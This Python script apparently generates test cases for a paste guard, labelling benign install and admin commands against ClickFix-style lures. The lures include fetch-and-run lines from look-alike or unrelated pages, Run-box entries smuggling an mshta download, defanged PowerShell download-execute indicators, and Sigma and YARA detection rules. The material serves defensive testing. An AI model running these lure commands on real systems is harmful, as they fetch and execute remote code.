"""Writes tests/data/cases/developers.jsonl: what developers and administrators really paste,
each with the page it was copied from, and the lures that borrow each shape.

    python tests/data/cases/make_developers.py

Deterministic: the same file every run. Written for issue 9's benign side by the helper
"benign" from how projects document their installers (READMEs, release pages, docs sites,
package pages), not from any blind set. Projects, owners and hosts are made up (real-shaped);
a few real vendors appear where their documented commands are the point (Microsoft Learn).
Each line is {id, text, expect, technique, platform, source, target}:

- `own-page-*`: installers from their own project's page into a terminal (GitHub, GitLab,
  Codeberg, self-hosted forges, gists, pages sites, the vendor's domain and CDN, apt/dnf
  repositories, release assets, checksum-verified and pinned downloads) in every shape READMEs
  use: `not_flagged`, and never blocked;
- `tutorial-*`: the same installers quoted by a tutorial, a Q&A page or a help centre whose
  address names the product: `not_flagged`;
- `admin-*`, `devops-*`, `console-*`, `ioc-*`: vendor-documented admin commands, everyday
  one-liners, console snippets, security write-ups quoting defanged indicators: `not_flagged`;
- `lure-*`: the look-alikes each clearing must not reach: a page naming a product while the
  script comes from a stranger, a vendor's name inside someone else's domain, a tutorial-shaped
  page with a lure trait, the same installers from an unrelated page or into the Run box,
  defanged text beside a live command: `flagged` or `malicious`.
"""

from __future__ import annotations

from pathlib import Path

from casefile import case  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("developers.jsonl")
BENIGN = "none"
LURE = "T1204.004"
MASQUERADE = "T1036"

# Long-tail forge projects: (owner, repository, branch, program name).
GITHUB = [
    ("quietmoth", "mothball", "main", "mothball"),
    ("larkspur-dev", "larkctl", "main", "larkctl"),
    ("tinkerbyte", "byteforge", "master", "bf"),
    ("oakhollow", "hollowsync", "main", "hollowsync"),
    ("verdant-systems", "verdant", "main", "verdant"),
    ("copperkettle", "kettle", "trunk", "kettle"),
    ("nightjar-io", "nightjar", "main", "nightjar"),
    ("pinecone-labs", "conectl", "main", "conectl"),
    ("driftwood-oss", "driftfmt", "main", "driftfmt"),
    ("mudlark", "mudlark-agent", "main", "mudlark-agent"),
    ("halcyon-tools", "halo", "main", "halo"),
    ("bluefin-dev", "finch", "main", "finch"),
    ("glasswing", "gwctl", "develop", "gwctl"),
    ("saffronstack", "saffron", "main", "saffron"),
    ("otterpop", "otterdb", "main", "otter"),
    ("quarrymen", "quarry", "main", "quarry"),
    ("redwing-labs", "redwing", "main", "rw"),
    ("thistlecode", "thistle", "main", "thistle"),
    ("yellowtail-hq", "ytail", "main", "ytail"),
    ("emberglow", "glowup", "main", "glowup"),
    ("stormpetrel", "petrel", "main", "petrel"),
    ("juniper-grid", "gridline", "main", "gridline"),
    ("cobblestone-dev", "cobble", "main", "cobble"),
    ("wildoat", "oatmeal-cli", "main", "oatmeal"),
]
GITLAB = [
    ("fennel-group", "fennel", "main", "fennel"),
    ("larchwood", "larch-cli", "main", "larch"),
    ("tansy-labs", "tansy", "master", "tansy"),
    ("moorhen", "moorhen-agent", "main", "moorhen"),
]
CODEBERG = [
    ("sedgewick", "sedge", "main", "sedge"),
    ("brackish", "brinetool", "main", "brine"),
    ("kittlitz", "murrelet", "main", "murrelet"),
]
# Self-hosted forges on a project's own domain: (forge host, owner, repo, program).
SELF_HOSTED = [
    ("git.wormwood.org", "core", "wormwood", "wormwood"),
    ("code.alderbank.net", "tools", "alderctl", "alderctl"),
    ("forge.sparrowhawk.dev", "sparrowhawk", "hawk", "hawk"),
]
# Vendors with their own domains: (brand, site, docs page path, script URL, program).
VENDORS = [
    ("tern", "tern.dev", "/docs/install", "https://get.tern.dev", "tern"),
    (
        "flintlock",
        "flintlock.io",
        "/docs/getting-started",
        "https://flintlock.io/install.sh",
        "flint",
    ),
    ("keelhaul", "keelhaul.sh", "/", "https://keelhaul.sh/install", "keelhaul"),
    ("mooring", "mooring.app", "/download", "https://dl.mooring.app/cli/install.sh", "mooring"),
    (
        "riverbend",
        "riverbend.cloud",
        "/docs/cli/install",
        "https://cdn.riverbend.cloud/cli/latest/install.sh",
        "rbctl",
    ),
    ("hopscotch", "hopscotch.run", "/docs/quickstart", "https://install.hopscotch.run", "hop"),
    (
        "cindervale",
        "cindervale.com",
        "/products/agent/linux",
        "https://downloads.cindervale.com/agent/install.sh",
        "cvagent",
    ),
    ("saltwind", "saltwind.ai", "/docs", "https://saltwind.ai/install.sh", "saltwind"),
    (
        "marrowbone",
        "marrowbone.io",
        "/docs/install/",
        "https://releases.marrowbone.io/install.sh",
        "marrow",
    ),
    ("lanternlight", "lanternlight.dev", "/guide/setup", "https://lanternlight.dev/sh", "lantern"),
    ("quillfeather", "quillfeather.co", "/cli", "https://get.quillfeather.co/install.sh", "quill"),
    ("ashfall", "ashfall.tools", "/install", "https://ashfall.tools/get", "ashfall"),
]
# Windows vendors: (brand, site, docs path, script host, product).
WIN_VENDORS = [
    ("pebblecast", "pebblecast.com", "/docs/windows", "get.pebblecast.com", "PebbleCast"),
    ("wickerlight", "wickerlight.io", "/install", "wickerlight.io", "Wickerlight"),
    ("bramblegate", "bramblegate.dev", "/docs/cli/windows", "cdn.bramblegate.dev", "Bramblegate"),
    ("tidewater", "tidewater.app", "/download/windows", "dl.tidewater.app", "Tidewater"),
    (
        "gorsefield",
        "gorsefield.net",
        "/support/install",
        "downloads.gorsefield.net",
        "GorsefieldAgent",
    ),
    ("heathrow-ops", "heathrowops.com", "/docs/agent", "packages.heathrowops.com", "HeathrowAgent"),
]
# Tutorial, Q&A and help-centre pages on other sites, as "<url with {p}>" where {p} is the
# product's name as the page writes it.
TUTORIAL_PAGES = [
    "https://www.linuxcapable.example/how-to-install-{p}-on-ubuntu-24-04/",
    "https://dev.to/mkowalski/setting-up-{p}-in-five-minutes-3k2j",
    "https://stackoverflow.com/questions/78123456/how-do-i-install-{p}-on-macos",
    "https://askubuntu.com/questions/1501234/{p}-install-script-fails-with-permission-denied",
    "https://medium.com/@rnair/getting-started-with-{p}-a-practical-guide-9f1e2d3c4b5a",
    "https://www.digitalocean.com/community/tutorials/how-to-install-and-use-{p}-on-debian-12",
    "https://blog.hannahcodes.example/2025/03/trying-out-{p}",
    "https://itsfoss.example/install-{p}-linux/",
    "https://superuser.com/questions/1834567/installing-{p}-behind-a-corporate-proxy",
    "https://www.reddit.com/r/selfhosted/comments/1b2c3d/{p}_is_great_heres_how_i_set_it_up/",
    "https://lobste.rs/s/x7k2qp/{p}_a_small_fast_tool",
    "https://wiki.archlinux.example/title/{P}",
]
# Pages that are about something else entirely (compromised or fake), for the lures.
UNRELATED_PAGES = [
    "https://www.lakeside-bakery.example/menu/autumn-specials",
    "https://tickets.cityarena.example/events/2026/hockey-final",
    "https://www.oldmill-hotel.example/rooms/deluxe-suite",
    "https://portal.brightwater-hr.example/documents/holiday-policy",
    "https://www.mountain-weather.example/forecast/alps/chamonix",
    "https://shop.cozy-knits.example/products/wool-scarf-blue",
    "https://www.localpaper.example/sport/2026/11/30/derby-report",
    "https://streamhub.example/watch/season-2-episode-7",
]


def ok(
    cid: str, text: str, technique: str, platform: str, source: str, target: str = "terminal"
) -> dict[str, str]:
    return case(cid, text, "not_flagged", f"benign-{technique}", platform, source, target)


def github_own_page() -> list[dict[str, str]]:
    out = []
    for n, (owner, repo, branch, prog) in enumerate(GITHUB, start=1):
        page = f"https://github.com/{owner}/{repo}"
        raw = f"https://raw.githubusercontent.com/{owner}/{repo}/{branch}"
        tag = f"v{1 + n % 3}.{n % 7}.{n % 5}"
        rel = f"https://github.com/{owner}/{repo}/releases"
        pages = f"https://{owner}.github.io/{repo}"
        shapes = [
            (page, f"curl -fsSL {raw}/install.sh | bash", "linux"),
            (f"{page}#installation", f"curl -sSfL {raw}/scripts/install.sh | sh -s -- -b /usr/local/bin {tag}", "linux"),
            (f"{page}/blob/{branch}/README.md", f"wget -qO- {raw}/install.sh | sudo bash", "linux"),
            (page, f'/bin/bash -c "$(curl -fsSL {raw}/install.sh)"', "macos"),
            (f"{page}#quick-start", f"bash <(curl -sL {raw}/get.sh)", "linux"),
            (f"{rel}/tag/{tag}", f"curl -LsSf {rel}/download/{tag}/{repo}-installer.sh | sh", "linux"),
            (f"{rel}/latest", f"curl --proto '=https' --tlsv1.2 -LsSf {rel}/latest/download/{repo}-installer.sh | sh", "macos"),
            (page, f"irm {raw}/install.ps1 | iex", "windows"),
            (f"{page}#windows", f"iwr -useb {raw}/install.ps1 | iex", "windows"),
            (f"{rel}/tag/{tag}", f'powershell -ExecutionPolicy Bypass -c "irm {rel}/download/{tag}/{repo}-installer.ps1 | iex"', "windows"),
            (f"{pages}/", f"curl -fsSL {pages}/install.sh | sh", "linux"),
            (f"{pages}/docs/install.html", f"irm {pages}/install.ps1 | iex", "windows"),
            (f"{rel}/tag/{tag}",
             f"curl -LO {rel}/download/{tag}/{prog}_{tag[1:]}_linux_amd64.tar.gz\n"
             f"tar -xzf {prog}_{tag[1:]}_linux_amd64.tar.gz\nsudo install -m 0755 {prog} /usr/local/bin/{prog}", "linux"),
            (f"{page}#verify",
             f"curl -LO {rel}/download/{tag}/{prog}-linux-amd64 && curl -LO {rel}/download/{tag}/checksums.txt && "
             f"sha256sum --ignore-missing -c checksums.txt && chmod +x {prog}-linux-amd64 && sudo mv {prog}-linux-amd64 /usr/local/bin/{prog}", "linux"),
            (f"{page}#install", f"curl -fsSLo /usr/local/bin/{prog} {rel}/download/{tag}/{prog}-linux-x86_64 && chmod +x /usr/local/bin/{prog}", "linux"),
            (page, f"curl -fsSL {raw}/install.sh | INSTALL_DIR=$HOME/.local/bin bash", "linux"),
            (page, f"curl -fsSL {raw}/install.sh | bash -s -- --version {tag} --no-modify-path", "linux"),
            (f"{page}#homebrew", f"brew install {owner}/tap/{prog}", "macos"),
            (f"{page}#go", f"go install github.com/{owner}/{repo}/cmd/{prog}@latest", "any"),
            (f"{page}#docker", f"docker run --rm -it -v \"$PWD\":/work ghcr.io/{owner}/{repo}:{tag}", "any"),
        ]  # fmt: skip
        # every project gets five of the shapes, a different five each time
        for k in range(5):
            source, text, platform = shapes[(n * 3 + k * 4) % len(shapes)]
            out.append(ok(f"dv-own-gh-{n}-{k + 1}", text, "own-page", platform, source))
    return out


def forge_own_page() -> list[dict[str, str]]:
    out = []
    for n, (owner, repo, branch, prog) in enumerate(GITLAB, start=1):
        page = f"https://gitlab.com/{owner}/{repo}"
        raw = f"{page}/-/raw/{branch}"
        out += [
            ok(f"dv-own-gl-{n}-1", f"curl -fsSL {raw}/install.sh | bash", "own-page", "linux", page),
            ok(f"dv-own-gl-{n}-2", f"curl -sSL {raw}/scripts/get-{prog}.sh | sh -s -- --prefix ~/.local", "own-page", "linux", f"{page}/-/blob/{branch}/README.md"),
            ok(f"dv-own-gl-{n}-3", f"irm {raw}/install.ps1 | iex", "own-page", "windows", f"https://{owner}.gitlab.io/{repo}/"),
            ok(f"dv-own-gl-{n}-4", f"curl -LO {page}/-/releases/v1.2.0/downloads/{prog}-linux-amd64.tar.gz && tar xzf {prog}-linux-amd64.tar.gz", "own-page", "linux", f"{page}/-/releases"),
        ]  # fmt: skip
    for n, (owner, repo, branch, _prog) in enumerate(CODEBERG, start=1):
        page = f"https://codeberg.org/{owner}/{repo}"
        raw = f"{page}/raw/branch/{branch}"
        out += [
            ok(f"dv-own-cb-{n}-1", f"curl -fsSL {raw}/install.sh | sh", "own-page", "linux", page),
            ok(f"dv-own-cb-{n}-2", f"wget -qO- {raw}/install.sh | bash -s -- --user", "own-page", "linux", f"{page}/src/branch/{branch}/README.md"),
            ok(f"dv-own-cb-{n}-3", f"curl -fsSL https://{owner}.codeberg.page/{repo}/install.sh | sh", "own-page", "linux", f"https://{owner}.codeberg.page/{repo}/"),
        ]  # fmt: skip
    for n, (host, owner, repo, _prog) in enumerate(SELF_HOSTED, start=1):
        page = f"https://{host}/{owner}/{repo}"
        site = "https://" + host.split(".", 1)[1]
        out += [
            ok(f"dv-own-sh-{n}-1", f"curl -fsSL {page}/raw/branch/main/install.sh | sh", "own-page", "linux", page),
            ok(f"dv-own-sh-{n}-2", f"curl -fsSL {page}/raw/branch/main/install.sh | sh", "own-page", "linux", f"{site}/docs/install"),
            ok(f"dv-own-sh-{n}-3", f"irm {site}/install.ps1 | iex", "own-page", "windows", f"{page}#windows"),
        ]  # fmt: skip
    # the owner's gists, from the gist page itself
    for n, (owner, _repo, _branch, prog) in enumerate(GITHUB[:6], start=1):
        gist = f"{n:x}f3a9c2e7b1d4{n:02d}a8c6e0f5b3d7a1c9"
        page = f"https://gist.github.com/{owner}/{gist}"
        raw = f"https://gist.githubusercontent.com/{owner}/{gist}/raw/setup-{prog}.sh"
        out.append(ok(f"dv-own-gist-{n}", f"curl -fsSL {raw} | bash", "own-page", "linux", page))
    return out


def vendor_own_page() -> list[dict[str, str]]:
    out = []
    for n, (brand, site, path, script, prog) in enumerate(VENDORS, start=1):
        page = f"https://{site}{path}"
        docs = f"https://docs.{site}/installation"
        out += [
            ok(f"dv-own-v-{n}-1", f"curl -fsSL {script} | sh", "own-page", "linux", page),
            ok(f"dv-own-v-{n}-2", f"curl -sSL {script} | sudo bash -s -- --channel stable", "own-page", "linux", docs),
            ok(f"dv-own-v-{n}-3", f'sh -c "$(curl -fsSL {script})"', "own-page", "macos", page),
            ok(f"dv-own-v-{n}-4", f"wget -qO - {script} | bash", "own-page", "linux", docs),
            ok(f"dv-own-v-{n}-5",
               f"curl -fsSL https://pkg.{site}/gpg.key | sudo gpg --dearmor -o /usr/share/keyrings/{brand}.gpg\n"
               f'echo "deb [signed-by=/usr/share/keyrings/{brand}.gpg] https://pkg.{site}/apt stable main" | sudo tee /etc/apt/sources.list.d/{brand}.list\n'
               f"sudo apt-get update && sudo apt-get install -y {prog}", "own-page", "linux", docs),
            ok(f"dv-own-v-{n}-6",
               f"sudo dnf config-manager --add-repo https://pkg.{site}/rpm/{brand}.repo && sudo dnf install -y {prog}",
               "own-page", "linux", docs),
        ]  # fmt: skip
    for n, (_brand, site, path, host, product) in enumerate(WIN_VENDORS, start=1):
        page = f"https://{site}{path}"
        out += [
            ok(f"dv-own-w-{n}-1", f"irm https://{host}/install.ps1 | iex", "own-page", "windows", page),
            ok(f"dv-own-w-{n}-2", f"iwr -useb https://{host}/install.ps1 | iex", "own-page", "windows", page),
            ok(f"dv-own-w-{n}-3", f'powershell -ExecutionPolicy ByPass -c "irm https://{host}/install.ps1 | iex"', "own-page", "windows", page),
            ok(f"dv-own-w-{n}-4", f"Set-ExecutionPolicy RemoteSigned -Scope CurrentUser\nirm https://{host}/install.ps1 | iex", "own-page", "windows", page),
            ok(f"dv-own-w-{n}-5", f"msiexec /i https://{host}/{product}-x64.msi /qn", "own-page", "windows", f"https://docs.{site}/deploy/msi"),
            ok(f"dv-own-w-{n}-6",
               f"Invoke-WebRequest -Uri https://{host}/{product}Setup.exe -OutFile $env:TEMP\\{product}Setup.exe\n"
               f"Start-Process $env:TEMP\\{product}Setup.exe -ArgumentList '/S' -Wait", "own-page", "windows", page),
            ok(f"dv-own-w-{n}-7", f"winget install --id {product}.{product} -e --source winget", "own-page", "windows", page),
            ok(f"dv-own-w-{n}-8", f"& ([scriptblock]::Create((irm https://{host}/install.ps1))) -Version 2.4.1", "own-page", "windows", page),
        ]  # fmt: skip
    return out


def package_hosts() -> list[dict[str, str]]:
    """A README linking its own package repository's install script (packagecloud, Cloudsmith),
    and the same script of another account, from an issue, or from an unrelated page."""
    out = []
    for n, (owner, repo, _b, _prog) in enumerate(GITHUB[10:16], start=1):
        page = f"https://github.com/{owner}/{repo}"
        pc = f"https://packagecloud.io/install/repositories/{owner}/{repo}"
        cs = f"https://dl.cloudsmith.io/public/{owner}/{repo}"
        out += [
            ok(f"dv-own-pkghost-{n}-1", f"curl -s {pc}/script.deb.sh | sudo bash", "own-page", "linux", page),
            ok(f"dv-own-pkghost-{n}-2", f"curl -s {pc}/script.rpm.sh | sudo bash", "own-page", "linux", f"{page}#rpm"),
            ok(f"dv-own-pkghost-{n}-3", f"curl -1sLf '{cs}/setup.deb.sh' | sudo -E bash", "own-page", "linux", page),
            case(f"dv-lure-pkghost-other-{n}",
                 f"curl -s https://packagecloud.io/install/repositories/{owner}-dl/{repo}/script.deb.sh | sudo bash",
                 "flagged", MASQUERADE, "linux", page, "terminal"),
            case(f"dv-lure-pkghost-issue-{n}", f"curl -s {pc}/script.deb.sh | sudo bash",
                 "flagged", LURE, "linux", f"{page}/issues/{n + 40}", "terminal"),
            case(f"dv-lure-pkghost-unrelated-{n}", f"curl -s {pc}/script.deb.sh | sudo bash",
                 "malicious", LURE, "linux", UNRELATED_PAGES[n % len(UNRELATED_PAGES)], "terminal"),
        ]  # fmt: skip
    return out


def package_managers() -> list[dict[str, str]]:
    out = []
    for n, (owner, repo, _b, prog) in enumerate(GITHUB[:10], start=1):
        page = f"https://github.com/{owner}/{repo}"
        shapes = [
            f"scoop bucket add {owner} https://github.com/{owner}/scoop-bucket\nscoop install {owner}/{prog}",
            f"choco install {prog} -y",
            f"pipx install {repo}",
            f"cargo install --locked {repo}",
            f"npx create-{repo}@latest my-app",
            f"uv tool install {repo}",
            f"nix run github:{owner}/{repo}",
            f"helm repo add {owner} https://{owner}.github.io/helm-charts && helm install {prog} {owner}/{prog}",
            f"kubectl apply -f https://raw.githubusercontent.com/{owner}/{repo}/main/deploy/manifest.yaml",
            f"npm install -g @{owner}/{prog}",
        ]
        out.append(ok(f"dv-pm-{n}", shapes[n - 1], "package-manager", "any", page))
    return out


def tutorials() -> list[dict[str, str]]:
    """Installers quoted by pages about the product on other sites."""
    out = []
    items = []
    for owner, repo, branch, _prog in GITHUB[:12]:
        raw = f"https://raw.githubusercontent.com/{owner}/{repo}/{branch}"
        items.append((repo, f"curl -fsSL {raw}/install.sh | bash", "linux"))
    for brand, _site, _path, script, _prog in VENDORS:
        items.append((brand, f"curl -fsSL {script} | sh", "linux"))
    for brand, _site, _path, host, _product in WIN_VENDORS:
        items.append((brand, f"irm https://{host}/install.ps1 | iex", "windows"))
    # installer services that install other projects' tools by name (webi)
    for tool in ("k9s", "fzf", "node", "golang"):
        items.append((tool, f"curl -sS https://webi.sh/{tool} | sh", "linux"))
    items.append(("node", "curl.exe https://webi.ms/node | powershell", "windows"))
    for n, (name, text, platform) in enumerate(items, start=1):
        template = TUTORIAL_PAGES[n % len(TUTORIAL_PAGES)]
        source = template.replace("{p}", name).replace("{P}", name.capitalize())
        out.append(ok(f"dv-tut-{n}", text, "tutorial", platform, source))
    return out


def admin_commands() -> list[dict[str, str]]:
    ms = "https://learn.microsoft.com/en-us"
    items = [
        (f"{ms}/powershell/module/microsoft.powershell.core/about/about_pwsh",
         "pwsh -NoProfile -EncodedCommand RwBlAHQALQBQAHIAbwBjAGUAcwBzAA=="),  # Get-Process
        (f"{ms}/powershell/module/microsoft.powershell.core/about/about_powershell_exe",
         "powershell.exe -EncodedCommand ZABpAHIAIAAiAGMAOgBcAHAAcgBvAGcAcgBhAG0AIABmAGkAbABlAHMAIgAgAA=="),  # dir "c:\program files"
        (f"{ms}/powershell/module/microsoft.powershell.core/about/about_pwsh",
         "$command = 'Get-Service -Name Spooler'\n"
         "$bytes = [System.Text.Encoding]::Unicode.GetBytes($command)\n"
         "$encoded = [Convert]::ToBase64String($bytes)\npwsh -EncodedCommand $encoded"),
        (f"{ms}/windows-server/administration/windows-commands/sfc", "sfc /verifyonly"),
        (f"{ms}/windows-hardware/manufacture/desktop/repair-a-windows-image",
         "DISM /Online /Cleanup-Image /ScanHealth"),
        (f"{ms}/windows/wsl/install", "wsl --install -d Ubuntu-24.04"),
        (f"{ms}/powershell/azure/install-azps-windows",
         "Install-Module -Name Az -Repository PSGallery -Scope CurrentUser -Force"),
        (f"{ms}/powershell/module/microsoft.powershell.security/set-executionpolicy",
         "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser"),
        (f"{ms}/windows-server/networking/technologies/netsh/netsh-contexts",
         "netsh advfirewall firewall add rule name=\"Allow SQL 1433\" dir=in action=allow protocol=TCP localport=1433"),
        (f"{ms}/powershell/module/nettcpip/test-netconnection",
         "Test-NetConnection -ComputerName sql01.contoso.com -Port 1433"),
        (f"{ms}/troubleshoot/windows-client/networking/reset-tcp-ip",
         "netsh int ip reset\nnetsh winsock reset\nipconfig /flushdns"),
        (f"{ms}/windows/package-manager/winget/upgrade", "winget upgrade --all --include-unknown"),
        (f"{ms}/powershell/module/activedirectory/get-aduser",
         "Get-ADUser -Filter 'Enabled -eq $false' -Properties LastLogonDate | Select-Object Name,LastLogonDate | Export-Csv disabled.csv -NoTypeInformation"),
        (f"{ms}/windows-server/administration/windows-commands/robocopy",
         "robocopy \\\\fs01\\projects D:\\backup\\projects /MIR /R:2 /W:5 /LOG:C:\\logs\\robocopy.log"),
        (f"{ms}/windows/client-management/manage-windows-features",
         "Enable-WindowsOptionalFeature -Online -FeatureName Microsoft-Hyper-V -All"),
        (f"{ms}/windows-server/administration/windows-commands/powercfg-command-line-options",
         "powercfg /batteryreport /output \"%USERPROFILE%\\battery.html\""),
        (f"{ms}/windows-server/administration/windows-commands/reg-add",
         "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced /v LaunchTo /t REG_DWORD /d 1 /f"),
        (f"{ms}/powershell/scripting/install/installing-powershell-on-windows",
         "winget install --id Microsoft.PowerShell --source winget"),
        (f"{ms}/powershell/scripting/install/installing-powershell-on-windows",
         "msiexec.exe /package PowerShell-7.4.6-win-x64.msi /quiet ADD_EXPLORER_CONTEXT_MENU_OPENPOWERSHELL=1 ENABLE_PSREMOTING=1"),
        (f"{ms}/windows-server/administration/windows-commands/certutil",
         "certutil -hashfile C:\\Downloads\\setup.exe SHA256"),
        (f"{ms}/windows/security/operating-system-security/data-protection/bitlocker/",
         "manage-bde -status C:"),
        (f"{ms}/powershell/module/microsoft.powershell.management/get-eventlog",
         "Get-WinEvent -LogName System -MaxEvents 50 | Where-Object LevelDisplayName -eq 'Error'"),
        (f"{ms}/windows-server/administration/windows-commands/schtasks-query", "schtasks /query /fo LIST /v"),
        (f"{ms}/dotnet/core/tools/dotnet-install-script",
         "&powershell -NoProfile -ExecutionPolicy unrestricted -Command \"[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12; &([scriptblock]::Create((Invoke-WebRequest -UseBasicParsing 'https://dot.net/v1/dotnet-install.ps1'))) -Channel 8.0\""),
        (f"{ms}/dotnet/core/tools/dotnet-install-script",
         "curl -sSL https://dot.net/v1/dotnet-install.sh | bash /dev/stdin --channel 8.0"),
        (f"{ms}/cli/azure/install-azure-cli-linux",
         "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash"),
        (f"{ms}/windows/terminal/install", "winget install --id Microsoft.WindowsTerminal -e"),
    ]  # fmt: skip
    return [
        ok(f"dv-admin-{n}", text, "admin", "windows" if "learn" in src else "any", src)
        for n, (src, text) in enumerate(items, start=1)
    ]


def devops() -> list[dict[str, str]]:
    page = "https://wiki.internal.example/ops/runbook"
    items = [
        "kubectl get pods -A --field-selector=status.phase!=Running",
        "kubectl -n payments rollout restart deploy/api && kubectl -n payments rollout status deploy/api",
        "docker system prune -af --volumes",
        "sudo systemctl restart nginx && sudo journalctl -u nginx -n 50 --no-pager",
        "find . -name '*.pyc' -delete && find . -type d -name __pycache__ -exec rm -rf {} +",
        "openssl s_client -connect api.example.com:443 -servername api.example.com </dev/null | openssl x509 -noout -dates",
        'ssh-keygen -t ed25519 -C "you@example.com" && cat ~/.ssh/id_ed25519.pub',
        "git log --oneline --graph --decorate --all | head -40",
        "tar -czf backup-$(date +%F).tar.gz /etc/nginx && rsync -avz backup-*.tar.gz backup01:/srv/backups/",
        "curl -s https://api.github.com/repos/quietmoth/mothball/releases/latest | jq -r .tag_name",
        'for f in *.log; do gzip -9 "$f"; done',
        "awk -F: '$3 >= 1000 {print $1}' /etc/passwd",
        "sed -i 's/^#PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config && sudo systemctl reload sshd",
        "terraform init -upgrade && terraform plan -out tfplan",
        "aws s3 sync ./dist s3://my-site-bucket --delete --cache-control max-age=300",
        "python3 -m venv .venv && . .venv/bin/activate && pip install -r requirements.txt",
        "curl -fsS -X POST -H 'Content-Type: application/json' -d '{\"text\":\"deploy done\"}' https://hooks.slack.com/services/T000/B000/XXXX",
        "watch -n 2 'ss -tlnp | grep 8080'",
        "du -sh * | sort -h | tail -20",
        "export KUBECONFIG=~/.kube/staging.yaml && kubectl config use-context staging",
        'eval "$(ssh-agent -s)" && ssh-add ~/.ssh/id_ed25519',
        'eval "$(direnv hook zsh)"',
        'eval "$(/opt/homebrew/bin/brew shellenv)"',
        "crontab -l | { cat; echo '0 3 * * * /usr/local/bin/backup.sh'; } | crontab -",
        "sudo ufw allow 22/tcp && sudo ufw enable",
        'wget -q https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl.sha256 && echo "$(cat kubectl.sha256)  kubectl" | sha256sum --check',
    ]
    return [
        ok(f"dv-ops-{n}", text, "devops", "linux", page) for n, text in enumerate(items, start=1)
    ]


def console_snippets() -> list[dict[str, str]]:
    page = "https://developer.mozilla.example/en-US/docs/Web/API/Console"
    items = [
        "document.querySelectorAll('a[href^=\"http\"]').forEach(a => console.log(a.href))",
        "console.table(performance.getEntriesByType('resource').map(r => ({name: r.name, ms: Math.round(r.duration)})))",
        "fetch('/api/v2/items?limit=10').then(r => r.json()).then(console.log)",
        "localStorage.removeItem('feature-flags'); location.reload()",
        "copy(JSON.stringify(window.__APP_STATE__, null, 2))",
        "navigator.serviceWorker.getRegistrations().then(rs => rs.forEach(r => r.unregister()))",
        "document.designMode = 'on'",
        "[...document.images].filter(i => !i.alt).map(i => i.src)",
        "getEventListeners(document.querySelector('#submit'))",
        "new Intl.DateTimeFormat('de-DE', {dateStyle: 'full'}).format(new Date())",
        "Array.from(document.querySelectorAll('h2')).map(h => h.textContent.trim()).join('\\n')",
        "monitorEvents(window, 'resize')",
    ]
    return [
        ok(f"dv-console-{n}", text, "console", "any", page, "browser_console")
        for n, text in enumerate(items, start=1)
    ]


def ioc_writeups() -> list[dict[str, str]]:
    page = "https://research.threatdesk.example/blog/2026/11/clickfix-wave"
    items = [
        (
            "IOCs\nhxxps://check-human[.]top/v.hta\nhxxp://203.0.113[.]9/stage2.ps1\nmshta hxxps://verify-cdn[.]online/c\n"
            "SHA256: 0c9f2b7d51e0a8c4f3e2d1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1f0"
        ),
        (
            'Observed command (defanged):\npowershell -w h -c "iwr hxxps://update-check[.]site/p.ps1 | iex"\nC2: 198.51.100[.]77:443'
        ),
        (
            "Network indicators:\ncdn-verify[.]top\nhxxps://files-share[.]click/run.txt\n192.0.2[.]45\n"
            "The lure asks the victim to press Win+R and paste a command."
        ),
        (
            "curl -s hxxp://dl-mirror[.]top/a.sh | bash   <- macOS variant (defanged)\n"
            "osascript payload fetched from hxxps://203.0.113[.]200/m"
        ),
        (
            "| indicator | type |\n|---|---|\n| hxxps://captcha-check[.]icu/verify.ps1 | url |\n"
            "| mshta hxxp://198.51.100[.]3/x.hta | command |"
        ),
        (
            "ClickFix lures paste commands like `mshta hxxps://example[.]test/a` into the Run dialog; "
            "block mshta.exe from reaching the internet with an egress rule."
        ),
        (
            "title: ClickFix mshta from Run box\nlogsource:\n  product: windows\n  category: process_creation\n"
            "detection:\n  selection:\n    Image|endswith: '\\\\mshta.exe'\n    CommandLine|contains: 'http'\n  condition: selection"
        ),
        (
            'rule clickfix_powershell {\n  strings:\n    $a = "iex" nocase\n    $b = "irm" nocase\n    $c = "verification" nocase\n'
            "  condition:\n    all of them\n}"
        ),
    ]
    # Pasted into an editor (`other`) nothing runs: not flagged, unless something that needs no
    # download is a lure trait (a hidden window). Copied with no known target (the guard's
    # copy-time reading, a bare scan), a defanged command is still what its technique is, since
    # reports publish real lures defanged, but a warning only: nothing can be fetched, so
    # nothing is stopped and the analyst's clipboard stays theirs. A sentence that quotes the
    # command in backticks is the report itself, not the command: info there too, and so is a
    # Markdown table's cell (every shell refuses a line that begins with a pipe).
    out = []
    for n, text in enumerate(items, start=1):
        quoted = "`" in text or text.startswith("|")
        command = not quoted and any(w in text for w in ("mshta hxxp", "| iex", "| bash"))
        other = "suspicious" if "-w h" in text else "not_flagged"
        unknown = "suspicious" if command else "not_flagged"
        out.append(case(f"dv-ioc-{n}", text, other, "benign-ioc", "any", page, "other"))
        if not text.startswith("rule "):  # a YARA rule's strings read as a command bare
            out.append(case(f"dv-ioc-unknown-{n}", text, unknown, "benign-ioc", "any", page,
                            "unknown"))  # fmt: skip
    return out


def office_run_box() -> list[dict[str, str]]:
    """Office's own start-up switches in the Run box, as Microsoft's support pages give them,
    and the same programs handed a file, a share, another switch or a second command."""
    page = "https://support.microsoft.example/en-us/office/open-office-apps-in-safe-mode"
    plain = ["excel /safe", "winword /safe", "WINWORD.EXE /a", "powerpnt /safe",
             "outlook /safe", "outlook.exe /resetnavpane", "outlook /cleanviews",
             "outlook /safe:1", "onenote /safeboot", "outlook /profiles"]  # fmt: skip
    out = [
        ok(f"dv-office-run-box-{n}", text, "office-run-box", "windows", page, "run_dialog")
        for n, text in enumerate(plain, start=1)
    ]
    lure = "https://support-office-repair.example/fix"
    more = [
        "outlook /altvba \\\\files.example\\share\\a.otm",
        "excel /safe \\\\files.example\\share\\report.xlsm",
        "winword /safe https://files.example/doc.docm",
        "excel /safe /e /x",
        "outlook /safe & mshta https://files.example/a.hta",
        "powerpnt /safe %TEMP%\\deck.pptm",
    ]
    out += [
        case(f"dv-lure-office-run-box-{n}", text, "malicious", LURE, "windows", lure, "run_dialog")
        for n, text in enumerate(more, start=1)
    ]
    return out


def lures() -> list[dict[str, str]]:
    """What each clearing above must not reach."""
